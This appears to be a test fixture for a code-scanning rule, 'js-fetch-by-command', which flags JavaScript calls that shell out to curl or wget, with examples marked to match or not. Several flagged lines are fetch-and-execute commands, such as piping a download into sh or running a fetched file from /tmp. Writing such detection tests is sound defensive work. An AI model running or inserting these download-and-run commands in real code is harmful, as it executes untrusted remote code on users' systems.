// ruleid: js-fetch-by-command
execSync("curl -s -o /tmp/a https://a.invalid/x && chmod 770 /tmp/a && /tmp/a &");
// ruleid: js-fetch-by-command
execSync("curl -o /tmp/ld.py -s " + place + " && python3 /tmp/ld.py");
// ruleid: js-fetch-by-command
execSync(`curl -s ${place} | sh`);
// ruleid: js-fetch-by-command
cp.exec("wget -q https://a.invalid/x");
// ruleid: js-fetch-by-command
spawn("curl", ["-s", place]);
// ok: js-fetch-by-command
execSync(`git tag ${version}`);
// ok: js-fetch-by-command
console.log("fetch it by curl https://a.invalid");
// ok: js-fetch-by-command
spawn("curling", ["stones"]);
// ok: js-fetch-by-command
execSync("apt-get install curl-dev");
